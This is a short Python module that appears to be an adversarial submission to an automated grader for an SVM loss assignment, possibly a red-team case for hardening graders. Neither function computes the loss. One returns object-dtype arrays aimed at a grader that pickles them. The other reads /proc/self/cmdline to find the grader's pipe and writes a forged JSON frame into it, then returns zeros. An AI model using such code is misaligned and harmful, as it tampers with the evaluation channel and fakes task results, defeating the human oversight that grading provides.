"""Object arrays (pickled on the way in a naive grader) and a forged object-dtype frame."""
import json
import os
import struct

import numpy as np

ATTACKED = {"svm_loss_naive": None, "svm_loss_vectorized": None}


def svm_loss_naive(W, X, y, reg):
    return np.array([0.0], dtype=object), np.empty(W.shape, dtype=object)


def svm_loss_vectorized(W, X, y, reg):
    fd = int(open("/proc/self/cmdline").read().split("\0")[-3])
    body = json.dumps({"msg": {"$array": 0, "dtype": "|O", "shape": [1]},
                       "buffers": [8]}).encode()
    os.write(fd, struct.pack("<I", len(body)) + body + b"\0" * 8)
    return 0.0, np.zeros(W.shape)
